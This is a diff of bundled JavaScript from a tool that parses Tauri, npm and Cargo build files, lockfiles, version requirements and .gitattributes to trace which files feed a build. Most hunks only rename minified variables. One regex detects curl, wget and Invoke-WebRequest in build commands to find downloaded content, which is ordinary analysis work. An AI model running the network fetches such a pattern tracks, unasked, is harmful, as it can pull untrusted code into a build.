   if (value?.kind === "object" || value?.kind === "array") return void 0;
-  const text2 = textOf(value);
-  return text2.includes("${{") ? void 0 : [text2];
+  const text3 = textOf(value);
+  return text3.includes("${{") ? void 0 : [text3];
 }
 function propertyOf(value, name) {
   if (value?.kind !== "object") return void 0;
@@ -13613,23 +13660,23 @@ function makersOf(app, files) {
   });
 }
 function makerOfPackageScript(script, settings2) {
-  const { name, text: text2, path } = script;
+  const { name, text: text3, path } = script;
   const start = { folders: [folderOfScript(script)], variables: settings2, args: [[]] };
-  const forCmd = scriptAt(text2.value, "batch", text2.at);
+  const forCmd = scriptAt(text3.value, "batch", text3.at);
   return {
     key: `${path}#${name}`,
     name: `npm run ${name}`,
-    at: text2.at,
+    at: text3.at,
     parts: [
       { script: packageScript(script), start },
-      ...readOtherwiseByCmd(text2.value) ? [{ script: forCmd, start }] : []
+      ...readOtherwiseByCmd(text3.value) ? [{ script: forCmd, start }] : []
     ],
     ships: false,
     isForTests: isNamedForTests(name)
   };
 }
-function readOtherwiseByCmd(text2) {
-  return /\^|%\w+%/.test(text2);
+function readOtherwiseByCmd(text3) {
+  return /\^|%\w+%/.test(text3);
 }
 function seemsToBuild(code2) {
   const isBuild = /\b(?:build|bundle)\b|TAURI_|RUSTFLAGS|CARGO_/.test(code2);
@@ -13653,8 +13700,8 @@ var MOST_RESULTS = 8;
 var Recent = class {
   #results = /* @__PURE__ */ new Map();
   get(key, compute) {
-    const known6 = this.#results.get(key);
-    if (known6 !== void 0) return known6;
+    const known7 = this.#results.get(key);
+    if (known7 !== void 0) return known7;
     const result2 = compute();
     this.#results.set(key, result2);
     const [oldest] = this.#results.keys();
@@ -13667,8 +13714,8 @@ var Recent = class {
 function runnableOf(files) {
   const manifests = [...files.values()].filter(({ path }) => isPackageManifest(path));
   const scripts = Map.groupBy(manifests.flatMap(packageScripts), ({ name }) => name);
-  const named9 = manifests.map((file2) => [nameOf3(file2), file2.path]);
-  const byName = Map.groupBy(named9, ([name]) => name ?? "");
+  const named10 = manifests.map((file2) => [nameOf3(file2), file2.path]);
+  const byName = Map.groupBy(named10, ([name]) => name ?? "");
   return {
     files,
     scripts,
@@ -13720,8 +13767,8 @@ function targetsOf(ran) {
   return [...namedTargets(ran), ...downloaded(ran.words), ...fromGit(ran.words)].map(folderOfPattern);
 }
 function folderOfPattern(word2) {
-  const [known6 = ""] = (word2.split(UNKNOWN, 1)[0] ?? "").split(UNKNOWN_WORDS, 1);
-  return known6 !== word2 && known6.includes("/") ? known6.slice(0, known6.lastIndexOf("/")) : word2;
+  const [known7 = ""] = (word2.split(UNKNOWN, 1)[0] ?? "").split(UNKNOWN_WORDS, 1);
+  return known7 !== word2 && known7.includes("/") ? known7.slice(0, known7.lastIndexOf("/")) : word2;
 }
 function downloaded(words3) {
   if (!words3.some((word2) => /^(?:curl|wget|iwr|invoke-webrequest)$/.test(programOf(word2)))) return [];
@@ -13747,7 +13794,8 @@ function behindFlags(words3, withValue) {
 var OF_VERSION = /^(?:version|release|bump|--(?:bump|release-as|increment))$/;
 function unpacked({ words: words3, folders }, app) {
   const at2 = words3.findIndex(
-    (word2, i2) => /^(?:rsync|cp|tar|unzip|robocopy|xcopy|git|patch)$/.test(programOf(word2)) && !(word2 === "patch" && OF_VERSION.test(words3[i2 - 1] ?? ""))
+    (word2, i2) => /^(?:rsync|cp|tar|unzip|robocopy|xcopy|git|patch)$/.test(programOf(word2)) && // `PATCH` is what a request does: `gh api --method PATCH`.
+    !(/^patch$/i.test(word2) && (word2 !== "patch" || OF_VERSION.test(words3[i2 - 1] ?? "")))
   );
   const program = programOf(words3[at2] ?? "");
   const rest2 = program === "git" ? behindFlags(words3.slice(at2 + 1), GIT_VALUES) : words3.slice(at2 + 1);
@@ -13878,9 +13926,9 @@ function layersOf(builds2) {
   );
 }
 function commandsOfMakers(app, files) {
-  const read7 = mayRunOf(app, files);
-  const key = JSON.stringify([app, read7.map(({ path, id }) => [path, id])]);
-  return RECENT.get(key, () => commandsIn(app, new Map(read7.map((file2) => [file2.path, file2]))));
+  const read9 = mayRunOf(app, files);
+  const key = JSON.stringify([app, read9.map(({ path, id }) => [path, id])]);
+  return RECENT.get(key, () => commandsIn(app, new Map(read9.map((file2) => [file2.path, file2]))));
 }
 function mayRunOf(app, files) {
   const taken3 = [...files.values()].filter(({ path }) => mayStartBuilds(path, app)).flatMap((file2) => filesTakenIn(file2, files));
@@ -13937,8 +13985,8 @@ function buildsOfApp(app, files, contents) {
   const { builds: builds2, gaps } = startedBuilds(app, files, contents);
   const cargo = cargoEnvironment(app, files);
   const own = cargo === void 0 || cargo.json === null ? [] : [inlineLayer(cargo.json, cargo.at)];
-  const named9 = new Set(builds2.flatMap(({ layers }) => layers.map(({ file: file2 }) => file2.path)));
-  const unnamed2 = extraLayers(app, files).filter(({ path }) => !named9.has(path));
+  const named10 = new Set(builds2.flatMap(({ layers }) => layers.map(({ file: file2 }) => file2.path)));
+  const unnamed2 = extraLayers(app, files).filter(({ path }) => !named10.has(path));
   return {
     own,
     others: [...builds2, ...unnamed2.map(buildWith)].map((build) => ({
@@ -13973,19 +14021,19 @@ function unseenEnvironment({ at: at2 }, contents) {
 // src/tauri/builds/named-files.ts
 function filesNamed(app, files, contents) {
   const { runs: runs2 } = commandsOfMakers(app, files);
-  const named9 = new Set(runs2.flatMap(({ commands: commands2 }) => commands2.flatMap((ran) => namedBy(ran, files))));
+  const named10 = new Set(runs2.flatMap(({ commands: commands2 }) => commands2.flatMap((ran) => namedBy(ran, files))));
   const starting = [...files.values()].filter(({ path }) => mayStartBuilds(path, app));
   const taken3 = starting.flatMap(
     (file2) => [file2, ...filesTakenIn(file2, files)].flatMap((each) => pathsTakenIn(each, file2))
   );
-  return named9.union(new Set(taken3)).union(filesBehind(app, files, contents));
+  return named10.union(new Set(taken3)).union(filesBehind(app, files, contents));
 }
 function namedBy(ran, files) {
   const { words: words3, folders } = ran;
   const scripts = words3.filter((word2, i2) => isScript(word2, words3, i2));
-  const named9 = [...scripts, ...configurationsIn2(words3)].flatMap((word2) => pathsIn(word2, folders));
+  const named10 = [...scripts, ...configurationsIn2(words3)].flatMap((word2) => pathsIn(word2, folders));
   const programs2 = cratesRun(words3, folders, files).map((crate2) => inFolder(crate2, "src/main.rs"));
-  return [...named9, ...loadedFiles(ran), ...programs2];
+  return [...named10, ...loadedFiles(ran), ...programs2];
 }
 function isScript(word2, words3, i2) {
   return dialectByName(word2) !== void 0 || startsScript(words3, i2) && (i2 > 0 || word2.includes("/"));
@@ -14097,8 +14145,8 @@ function readSpec(spec) {
 
 // src/tauri/cargo/local-crates.ts
 function localCrates(workspace, files) {
-  const known6 = reached.get(workspace);
-  if (known6 !== void 0) return known6;
+  const known7 = reached.get(workspace);
+  if (known7 !== void 0) return known7;
   const found9 = /* @__PURE__ */ new Map();
   const todo = workspace.own === void 0 ? [] : [workspace.own];
   const add3 = (folder) => todo.push(...manifestIn2(folder, files));
@@ -14221,16 +14269,16 @@ function holds(target, platform) {
   if (target === null) return true;
   const condition = /^\s*cfg\s*\(([\s\S]*)\)\s*$/.exec(target)?.[1];
   if (condition !== void 0) return new Condition(condition, platform).whole();
-  const named9 = TRIPLES.find(([pattern]) => pattern.test(target))?.[1];
-  return named9 === void 0 || named9 === platform ? void 0 : false;
+  const named10 = TRIPLES.find(([pattern]) => pattern.test(target))?.[1];
+  return named10 === void 0 || named10 === platform ? void 0 : false;
 }
 var Condition = class {
   #tokens;
   #platform;
   #at = 0;
   #isTooDeep = false;
-  constructor(text2, platform) {
-    this.#tokens = text2.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g) ?? [];
+  constructor(text3, platform) {
+    this.#tokens = text3.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g) ?? [];
     this.#platform = platform;
   }
   whole() {
@@ -14292,9 +14340,9 @@ var BY_EDITION = /* @__PURE__ */ new Map([
 function unifiesAll({ root }) {
   if (root === void 0) return false;
   const own = packageOf(root.value);
-  const named9 = asString(pick(root.value, "workspace", "resolver")) ?? asString(member(own, "resolver"));
+  const named10 = asString(pick(root.value, "workspace", "resolver")) ?? asString(member(own, "resolver"));
   const edition = editionOf(own, pick(root.value, "workspace", "package", "edition"));
-  return (named9 ?? BY_EDITION.get(edition ?? "") ?? "1") === "1";
+  return (named10 ?? BY_EDITION.get(edition ?? "") ?? "1") === "1";
 }
 function editionOf(own, shared2) {
   const edition = member(own, "edition");
@@ -14334,12 +14382,12 @@ var Resolution = class {
   start(path, requested) {
     const node = this.#node(path, "app", true);
     if (node === void 0) return;
-    for (const asked2 of firstFeatures(node.crate.manifest, requested)) this.#turnOn(node, asked2);
+    for (const asked3 of firstFeatures(node.crate.manifest, requested)) this.#turnOn(node, asked3);
     while (this.#fresh.length > 0 || this.#asked.length > 0) {
       const fresh = this.#fresh.pop();
-      const asked2 = fresh === void 0 ? this.#asked.pop() : void 0;
+      const asked3 = fresh === void 0 ? this.#asked.pop() : void 0;
       if (fresh !== void 0) this.#activateAlways(fresh);
-      if (asked2 !== void 0) this.#follow(asked2.node, asked2);
+      if (asked3 !== void 0) this.#follow(asked3.node, asked3);
     }
   }
   #key(name, unit) {
@@ -14348,8 +14396,8 @@ var Resolution = class {
   #node(path, unit, isRoot = false) {
     const key = this.#key(path, unit);
     const crate2 = this.#crates.get(path);
-    const known6 = this.#nodes.get(key);
-    if (known6 !== void 0 || crate2 === void 0) return known6;
+    const known7 = this.#nodes.get(key);
+    if (known7 !== void 0 || crate2 === void 0) return known7;
     const node = {
       crate: crate2,
       unit,
@@ -14372,10 +14420,10 @@ var Resolution = class {
     for (const [name, dependencies] of node.dependencies)
       if (dependencies.some(({ isOptional }) => !isOptional)) this.#activate(node, name);
   }
-  #turnOn(node, asked2) {
-    if (node.features.has(asked2.value)) return;
-    node.features.add(asked2.value);
-    this.#asked.push({ node, ...asked2 });
+  #turnOn(node, asked3) {
+    if (node.features.has(asked3.value)) return;
+    node.features.add(asked3.value);
+    this.#asked.push({ node, ...asked3 });
   }
   /** Turns on an entry of a list of features, or a feature by name. */
   #follow(node, { value, at: at2 }) {
@@ -14392,9 +14440,9 @@ var Resolution = class {
       return;
     }
     this.#activate(node, name);
-    const named9 = node.dependencies.get(name) ?? [];
-    if (named9.some(({ isOptional }) => isOptional)) this.#turnOn(node, { value: name, at: feature.at });
-    for (const dependency of named9) this.#ask(node, dependency, [feature]);
+    const named10 = node.dependencies.get(name) ?? [];
+    if (named10.some(({ isOptional }) => isOptional)) this.#turnOn(node, { value: name, at: feature.at });
+    for (const dependency of named10) this.#ask(node, dependency, [feature]);
   }
   #activate(node, name) {
     if (node.active.has(name)) return;
@@ -14426,13 +14474,13 @@ var Resolution = class {
     }
   }
 };
-function firstFeatures({ features, value, name }, { named: named9, allFeatures, noDefaultFeatures }) {
+function firstFeatures({ features, value, name }, { named: named10, allFeatures, noDefaultFeatures }) {
   const own = `${name}/`;
   return [
     ...noDefaultFeatures === null ? [{ value: "default", at: value.at }] : [],
     ...allFeatures === null ? [] : [...features.keys()].map((each) => ({ value: each, at: allFeatures })),
-    ...named9.map(
-      (asked2) => asked2.value.startsWith(own) ? { value: asked2.value.slice(own.length), at: asked2.at } : asked2
+    ...named10.map(
+      (asked3) => asked3.value.startsWith(own) ? { value: asked3.value.slice(own.length), at: asked3.at } : asked3
     )
   ];
 }
@@ -14440,10 +14488,10 @@ function firstFeatures({ features, value, name }, { named: named9, allFeatures, 
 // src/formats/cargo-source.ts
 var CRATES_IO = "https://github.com/rust-lang/crates.io-index";
 var SPARSE_CRATES_IO = "https://index.crates.io";
-function cargoSource(text2, lockVersion) {
-  if (text2 === void 0) return THIS_REPOSITORY;
-  const plus = text2.indexOf("+");
-  const [protocol, rest2] = [text2.slice(0, plus), text2.slice(plus + 1)];
+function cargoSource(text3, lockVersion) {
+  if (text3 === void 0) return THIS_REPOSITORY;
+  const plus = text3.indexOf("+");
+  const [protocol, rest2] = [text3.slice(0, plus), text3.slice(plus + 1)];
   switch (protocol) {
     case "registry":
       return canonicalUrl(rest2) === CRATES_IO ? OWN_REGISTRY : { kind: "registry", url: canonicalUrl(rest2) };
@@ -14454,13 +14502,13 @@ function cargoSource(text2, lockVersion) {
     case "path":
       return THIS_REPOSITORY;
     default:
-      return { kind: "unknown", text: text2 };
+      return { kind: "unknown", text: text3 };
   }
 }
-function gitSource(text2, lockVersion) {
-  const hash = text2.lastIndexOf("#");
-  const commit = hash < 0 ? null : text2.slice(hash + 1);
-  const address = hash < 0 ? text2 : text2.slice(0, hash);
+function gitSource(text3, lockVersion) {
+  const hash = text3.lastIndexOf("#");
+  const commit = hash < 0 ? null : text3.slice(hash + 1);
+  const address = hash < 0 ? text3 : text3.slice(0, hash);
   const question = address.indexOf("?");
   const url = canonicalUrl(question < 0 ? address : address.slice(0, question));
   const query = question < 0 ? "" : address.slice(question + 1);
@@ -14479,8 +14527,8 @@ function decoded(query) {
   }
 }
 function canonicalUrl(url) {
-  const text2 = URL.canParse(url) ? new URL(url).href : url;
-  return text2.replace(/(?<!\/)\/+$/, "").replace(/\.git$/, "");
+  const text3 = URL.canParse(url) ? new URL(url).href : url;
+  return text3.replace(/(?<!\/)\/+$/, "").replace(/\.git$/, "");
 }
 
 // src/formats/cargo-lock.ts
@@ -14635,24 +14683,24 @@ function unpinned(drafts) {
 function indexOf(packages) {
   const index = /* @__PURE__ */ new Map();
   for (const each of packages) {
-    const named9 = [each.name, each.version, sourceWithoutCommit(each.source)];
-    for (const key of new Set([1, 2, 3].map((length) => keyOf(named9.slice(0, length)))))
+    const named10 = [each.name, each.version, sourceWithoutCommit(each.source)];
+    for (const key of new Set([1, 2, 3].map((length) => keyOf(named10.slice(0, length)))))
       file(index, key, each);
   }
   return index;
 }
 function file(index, key, each) {
   const own = each.source.kind === "path" ? each : void 0;
-  const known6 = index.get(key);
-  if (known6 === void 0) {
+  const known7 = index.get(key);
+  if (known7 === void 0) {
     index.set(key, { first: each, count: 1, own, owns: own === void 0 ? 0 : 1, oneVersion: true });
     return;
   }
-  known6.count += 1;
-  known6.oneVersion &&= known6.first.version === each.version;
+  known7.count += 1;
+  known7.oneVersion &&= known7.first.version === each.version;
   if (own === void 0) return;
-  known6.own = own;
-  known6.owns += 1;
+  known7.own = own;
+  known7.owns += 1;
 }
 function keyOf(parts) {
   return JSON.stringify(parts);
@@ -14662,16 +14710,16 @@ function edgesOf(entry, index, lockVersion) {
     return { text: item.value, target: resolve(item.value, index, lockVersion), at: item.at };
   });
 }
-function resolve(text2, index, lockVersion) {
-  const [, name = "", version, source] = /^([^ ]*)(?: ([^ ]*)(?: \((.*)\))?)?$/s.exec(text2) ?? [];
+function resolve(text3, index, lockVersion) {
+  const [, name = "", version, source] = /^([^ ]*)(?: ([^ ]*)(?: \((.*)\))?)?$/s.exec(text3) ?? [];
   const parts = [name, version, source && writtenSource(source, lockVersion)];
   const found9 = index.get(keyOf(parts.filter((part) => part !== void 0)));
   if (found9 === void 0 || version === void 0 && !found9.oneVersion) return void 0;
   if (found9.count === 1) return found9.first;
   return found9.owns === 1 ? found9.own : void 0;
 }
-function writtenSource(text2, lockVersion) {
-  return sourceWithoutCommit(cargoSource(text2, lockVersion));
+function writtenSource(text3, lockVersion) {
+  return sourceWithoutCommit(cargoSource(text3, lockVersion));
 }
 
 // src/tauri/cargo/lockfile.ts
@@ -14753,10 +14801,10 @@ function strangersOnTauri(root, files) {
 function requestedFeatures(config, flags) {
   const { allFeatures, noDefaultFeatures } = flags;
   const written6 = [...stringsOf(pick(config, "build", "features")), ...flags.features];
-  const named9 = written6.flatMap(
+  const named10 = written6.flatMap(
     ({ value, at: at2 }) => value.split(/[\s,]+/).filter((each) => each !== "").map((each) => ({ value: each, at: at2 }))
   );
-  return { named: named9, allFeatures, noDefaultFeatures };
+  return { named: named10, allFeatures, noDefaultFeatures };
 }
 
 // src/tauri/formats-read.ts
@@ -14804,8 +14852,8 @@ var COMPARATOR = new RegExp(
 var MOST_COMPARATORS = 32;
 var LONGEST = 1e3;
 var LARGEST = 2n ** 64n;
-function versionOf2(text2) {
-  const [, major, minor, patch, pre = ""] = (text2.length > LONGEST ? null : VERSION.exec(text2)) ?? [];
+function versionOf2(text3) {
+  const [, major, minor, patch, pre = ""] = (text3.length > LONGEST ? null : VERSION.exec(text3)) ?? [];
   if (major === void 0 || minor === void 0 || patch === void 0) return void 0;
   const version = { major: BigInt(major), minor: BigInt(minor), patch: BigInt(patch), pre };
   return isTooLarge(version) ? void 0 : version;
@@ -14814,11 +14862,11 @@ function comparatorsOf(requirement) {
   if (requirement.length > LONGEST) return void 0;
   if (/^ *[*xX] *$/.test(requirement)) return [];
   const comparators = requirement.split(",").map(comparatorOf);
-  const read7 = comparators.filter((each) => each !== void 0);
-  return read7.length < comparators.length || read7.length > MOST_COMPARATORS ? void 0 : read7;
+  const read9 = comparators.filter((each) => each !== void 0);
+  return read9.length < comparators.length || read9.length > MOST_COMPARATORS ? void 0 : read9;
 }
-function comparatorOf(text2) {
-  const written6 = text2.replace(/^ +/, "");
+function comparatorOf(text3) {
+  const written6 = text3.replace(/^ +/, "");
   const [, operator, major, minor, patch, pre = ""] = COMPARATOR.exec(written6) ?? [];
   if (major === void 0) return void 0;
   const comparator = {
@@ -14922,11 +14970,11 @@ function crateVersions(root, files) {
   const app = lock && ownPackage(lock, workspace);
   const dependencies = directDependencies(workspace, files);
   return (crate2) => {
-    const asked2 = dependencies.filter((each) => each.crate === crate2);
-    const named9 = folderOf2(asked2);
-    const folder = named9 ?? patchedFolder(workspace, crate2);
+    const asked3 = dependencies.filter((each) => each.crate === crate2);
+    const named10 = folderOf2(asked3);
+    const folder = named10 ?? patchedFolder(workspace, crate2);
     const locked = lock && lockedVersion(lock, app, crate2);
-    const isPassedOver = named9 !== null && locked?.source.kind !== "path";
+    const isPassedOver = named10 !== null && locked?.source.kind !== "path";
     if (locked !== void 0 && !isPassedOver) {
       const { version, source, checksum, lines: lines2 } = locked;
       const at2 = lines2.version;
@@ -14943,7 +14991,7 @@ function crateVersions(root, files) {
       const version = versionIn(files.get(inFolder(folder, "Cargo.toml"))) ?? locked?.version ?? "0.0.0";
       return { version, source: THIS_REPOSITORY, checksum: null, assumed: true, at: null, folder };
     }
-    return requiredVersion(asked2);
+    return requiredVersion(asked3);
   };
 }
 function pathCrates(root, files) {
@@ -14958,8 +15006,8 @@ function directDependencies(workspace, files) {
   const own = localCrates(workspace, files).find(({ manifest: manifest2 }) => manifest2 === workspace.own);
   return own?.dependencies.filter(({ kind }) => kind !== "dev") ?? [];
 }
-function folderOf2(asked2) {
-  const [first] = asked2.filter(({ source }) => source.kind === "path");
+function folderOf2(asked3) {
+  const [first] = asked3.filter(({ source }) => source.kind === "path");
   return first?.source.kind === "path" ? first.source.folder : null;
 }
 function versionIn(file2) {
@@ -14980,8 +15028,8 @@ function byVersion(a3, b5) {
   const [left2, right] = [(0, import_parse14.default)(a3), (0, import_parse14.default)(b5)];
   return left2 && right ? (0, import_compare3.default)(left2, right) : a3 < b5 ? -1 : 1;
 }
-function requiredVersion(asked2) {
-  const [first] = asked2;
+function requiredVersion(asked3) {
+  const [first] = asked3;
   if (first?.requirement === void 0) return void 0;
   const version = lowestVersion(first.requirement);
   if (version === void 0) return void 0;
@@ -14992,10 +15040,10 @@ function requiredVersion(asked2) {
 
 // src/tauri/load-project.ts
 function projectFollows(app, files, contents) {
-  const named9 = filesNamed(app, files, contents);
+  const named10 = filesNamed(app, files, contents);
   const isOfCargo = cargoFollows(app, files);
-  const isIn = (path) => withAncestors(folderOf(path)).some((folder) => named9.has(`${folder}/`));
-  return (path) => named9.has(path) || isIn(path) || isOfCargo(path);
+  const isIn = (path) => withAncestors(folderOf(path)).some((folder) => named10.has(`${folder}/`));
+  return (path) => named10.has(path) || isIn(path) || isOfCargo(path);
 }
 function loadProject(location, files, extra = [], contents = contentsOf([...files.values()]), flags = NO_FLAGS) {
   const formats = formatsRead(location, files, extra, flags);
@@ -15066,8 +15114,8 @@ function likeness(a3, b5) {
   const features = new Set(b5.flags.features.map(({ value }) => value));
   return shared(a3, b5) + a3.flags.features.filter(({ value }) => features.has(value)).length;
 }
-function isSame(one, other) {
-  return one.purpose === other.purpose && settingsOf(one) === settingsOf(other);
+function isSame(one2, other) {
+  return one2.purpose === other.purpose && settingsOf(one2) === settingsOf(other);
 }
 function counterpart(build, base, head) {
   const settings2 = settingsOf(build);
@@ -15092,8 +15140,8 @@ function shared(a3, b5) {
 
 // src/engine/standing-code.ts
 function standingCode(base, head, { base: there, head: here }) {
-  const known6 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
-  const added = head.filter(isCode2).filter(({ role, path }) => !known6.has(`${role} ${path}`));
+  const known7 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
+  const added = head.filter(isCode2).filter(({ role, path }) => !known7.has(`${role} ${path}`));
   const stands = (path) => there.contents.isFile(path) && there.contents.at(path) === here.contents.at(path);
   const isThere = (path, role) => role === "install-script" && there.contents.isFile(path);
   const sharesCode = (folder) => here.listing.entries.some(({ path }) => path.startsWith(folder) && path.endsWith(".rs") && stands(path));
@@ -15186,20 +15234,20 @@ var MOST_LINES2 = 1e4;
 var LONGEST_LINE = 2047;
 var BLANK = " 	\r";
 var MACRO = "[attr]";
-function readGitAttributes(text2) {
+function readGitAttributes(text3) {
   const rules2 = [];
   const macros = [];
   const unclear = [];
-  for (const [index, written6] of text2.split("\n", MOST_LINES2 + 1).entries()) {
+  for (const [index, written6] of text3.split("\n", MOST_LINES2 + 1).entries()) {
     const line = index + 1;
     if (isUnclear(written6) || line > MOST_LINES2) {
       unclear.push({ line, text: written6 });
       continue;
     }
-    const read7 = lineOf2(Buffer.from(written6, "utf8").toString("latin1"));
-    if (read7 === void 0) continue;
-    if ("name" in read7) macros.push({ ...read7, line });
-    else rules2.push({ ...read7, line });
+    const read9 = lineOf2(Buffer.from(written6, "utf8").toString("latin1"));
+    if (read9 === void 0) continue;
+    if ("name" in read9) macros.push({ ...read9, line });
+    else rules2.push({ ...read9, line });
   }
   return { rules: rules2, macros, unclear };
 }
@@ -15209,11 +15257,11 @@ function isUnclear(line) {
 function lineOf2(line) {
   const start = passed(line, 0);
   if (start === line.length || line[start] === "#") return void 0;
-  const { text: text2, end } = quotedAt(line, start) ?? wordAt(line, start);
-  const isMacro = text2.startsWith(MACRO) && text2.length > MACRO.length;
+  const { text: text3, end } = quotedAt(line, start) ?? wordAt(line, start);
+  const isMacro = text3.startsWith(MACRO) && text3.length > MACRO.length;
   if (isMacro) return macroAt(line, start + MACRO.length);
   const settings2 = settingsFrom(line, end);
-  return settings2 === void 0 || text2.startsWith("!") ? void 0 : { pattern: text2, settings: settings2 };
+  return settings2 === void 0 || text3.startsWith("!") ? void 0 : { pattern: text3, settings: settings2 };
 }
 function macroAt(line, from) {
   const { text: name, end } = wordAt(line, passed(line, from));
@@ -15223,10 +15271,10 @@ function macroAt(line, from) {
 function settingsFrom(line, from) {
   const settings2 = [];
   for (let at2 = passed(line, from); at2 < line.length; ) {
-    const { text: text2, end } = wordAt(line, at2);
-    const setting10 = settingOf2(text2);
-    if (setting10 === void 0) return void 0;
-    settings2.push(setting10);
+    const { text: text3, end } = wordAt(line, at2);
+    const setting12 = settingOf2(text3);
+    if (setting12 === void 0) return void 0;
+    settings2.push(setting12);
     at2 = passed(line, end);
   }
   return settings2;
@@ -15236,8 +15284,8 @@ function settingOf2(word2) {
   if (!isName(name)) return void 0;
   return { name, value: sign === "-" ? false : sign === "!" ? null : value ?? true };
 }
-function isName(text2) {
-  return /^[A-Za-z0-9._][A-Za-z0-9._-]*$/.test(text2);
+function isName(text3) {
+  return /^[A-Za-z0-9._][A-Za-z0-9._-]*$/.test(text3);
 }
 function wordAt(line, start) {
   let end = start;
@@ -15262,25 +15310,25 @@ var ESCAPES3 = {
 };
 function quotedAt(line, start) {
   if (line[start] !== '"') return void 0;
-  let text2 = "";
+  let text3 = "";
   for (let at2 = start + 1; at2 < line.length; ) {
-    if (line[at2] === '"') return { text: text2, end: at2 + 1 };
+    if (line[at2] === '"') return { text: text3, end: at2 + 1 };
     if (line[at2] !== "\\") {
-      text2 += line[at2];
+      text3 += line[at2];
       at2 += 1;
       continue;
     }
     const octal = /^[0-3][0-7]{2}/.exec(line.slice(at2 + 1, at2 + 4))?.[0];
     const escaped3 = octal === void 0 ? ESCAPES3[line[at2 + 1] ?? ""] : String.fromCharCode(Number.parseInt(octal, 8));
     if (escaped3 === void 0) return void 0;
-    text2 += escaped3;
+    text3 += escaped3;
     at2 += octal === void 0 ? 2 : 4;
   }
   return void 0;
 }
 
 // src/engine/checkout.ts
-function conversionsOf({ path, text: text2 }, attributes2) {
+function conversionsOf({ path, text: text3 }, attributes2) {
   const found9 = [];
   const add3 = (name, does) => {
     const { value, at: at2 } = attributes2.get(name) ?? {};
@@ -15288,58 +15336,58 @@ function conversionsOf({ path, text: text2 }, attributes2) {
   };
   const of2 = (name) => attributes2.get(name)?.value;
   add3("filter", typeof of2("filter") === "string");
-  add3("ident", of2("ident") === true && KEYWORD.test(text2));
-  add3("working-tree-encoding", reencodes(of2("working-tree-encoding"), text2));
+  add3("ident", of2("ident") === true && KEYWORD.test(text3));
+  add3("working-tree-encoding", reencodes(of2("working-tree-encoding"), text3));
   const isText2 = (of2("text") ?? of2("crlf")) !== false;
-  add3("eol", of2("eol") === "crlf" && isText2 && lineEndsCount(path, text2));
+  add3("eol", of2("eol") === "crlf" && isText2 && lineEndsCount(path, text3));
   return found9;
 }
 var KEYWORD = /\$Id[:$]/;
 var UTF_8 = /^utf-?8$/i;
 var LIKE_ASCII = /^(?:(?:us-)?ascii|latin1|iso-8859-(?:[1-9]|1[013-6])|(?:windows-|cp)125[0-8])$/i;
-function reencodes(encoding, text2) {
+function reencodes(encoding, text3) {
   if (typeof encoding !== "string") return encoding === true;
   if (encoding === "" || UTF_8.test(encoding)) return false;
-  return !(LIKE_ASCII.test(encoding) && /^[\x00-\x7f]*$/.test(text2));
+  return !(LIKE_ASCII.test(encoding) && /^[\x00-\x7f]*$/.test(text3));
 }
 var ANY_LINE_END = /\.(?:json5?|lock|rs|html|ya?ml|npmrc|bat|cmd|ps1)$/;
-function lineEndsCount(path, text2) {
-  return path.endsWith(".toml") ? /"""|'''/.test(text2) : !ANY_LINE_END.test(baseName(path));
+function lineEndsCount(path, text3) {
+  return path.endsWith(".toml") ? /"""|'''/.test(text3) : !ANY_LINE_END.test(baseName(path));
 }
 
 // src/language/wildmatch.ts
-function bytesOf(text2) {
-  return Buffer.from(text2, "utf8").toString("latin1");
+function bytesOf(text3) {
+  return Buffer.from(text3, "utf8").toString("latin1");
 }
 function wildmatch(pattern) {
   return { exact: partsOf7(pattern, false), folded: partsOf7(pattern, true) };
 }
-function isMatch(pattern, text2, ignoreCase, work) {
+function isMatch(pattern, text3, ignoreCase, work) {
   const parts = ignoreCase ? pattern.folded : pattern.exact;
   if (parts === null) return false;
-  let reached2 = reach(parts, [0]);
-  for (let i2 = 0; i2 < text2.length && reached2.size > 0; i2 += 1) {
-    const written6 = text2.charCodeAt(i2);
+  let reached3 = reach(parts, [0]);
+  for (let i2 = 0; i2 < text3.length && reached3.size > 0; i2 += 1) {
+    const written6 = text3.charCodeAt(i2);
     const byte = ignoreCase ? lower(written6) : written6;
-    work.spend(reached2.size);
-    reached2 = reach(
+    work.spend(reached3.size);
+    reached3 = reach(
       parts,
-      [...reached2].flatMap((at2) => parts[at2]?.takes(byte) ? [parts[at2].repeats ? at2 : at2 + 1] : [])
+      [...reached3].flatMap((at2) => parts[at2]?.takes(byte) ? [parts[at2].repeats ? at2 : at2 + 1] : [])
     );
   }
-  return reached2.has(parts.length);
+  return reached3.has(parts.length);
 }
 function reach(parts, from) {
-  const reached2 = /* @__PURE__ */ new Set();
+  const reached3 = /* @__PURE__ */ new Set();
   const todo = [...from];
   for (let at2 = todo.pop(); at2 !== void 0; at2 = todo.pop()) {
-    if (reached2.has(at2)) continue;
-    reached2.add(at2);
+    if (reached3.has(at2)) continue;
+    reached3.add(at2);
     const part = parts[at2];
     if (part?.repeats) todo.push(at2 + 1);
     if (part?.passes !== void 0) todo.push(at2 + 1, at2 + part.passes);
   }
-  return reached2;
+  return reached3;
 }
 var SLASH2 = 47;
 var notSlash = (byte) => byte !== SLASH2;
@@ -15391,11 +15439,11 @@ function setAt(pattern, from, folds) {
   let previous = null;
   for (let isFirst = true; isFirst || pattern[at2] !== "]"; isFirst = false) {
     if (at2 >= pattern.length) return null;
-    const named9 = classAt(pattern, at2, folds);
-    if (named9 === null) return null;
-    if (named9 !== void 0) {
-      tests.push(named9.has);
-      [at2, previous] = [named9.end, null];
+    const named10 = classAt(pattern, at2, folds);
+    if (named10 === null) return null;
+    if (named10 !== void 0) {
+      tests.push(named10.has);
+      [at2, previous] = [named10.end, null];
       continue;
     }
     const first = isDash(pattern, at2) ? previous : null;
@@ -15441,8 +15489,8 @@ function classAt(pattern, at2, folds) {
   const expression = CLASSES[name];
   if (expression === void 0) return null;
   const isIn = (byte) => expression.test(String.fromCharCode(byte));
-  const has3 = folds && name === "upper" ? (byte) => isIn(byte) || isIn(upper(byte)) : isIn;
-  return { has: has3, end: close + 1 };
+  const has4 = folds && name === "upper" ? (byte) => isIn(byte) || isIn(upper(byte)) : isIn;
+  return { has: has4, end: close + 1 };
 }
 function lower(byte) {
   return byte >= 65 && byte <= 90 ? byte + 32 : byte;
@@ -15521,9 +15569,9 @@ function macrosIn(file2) {
   return file2 === void 0 ? BUILT_IN : new Map([...BUILT_IN, ...prepared(file2).macros]);
 }
 function prepared(file2) {
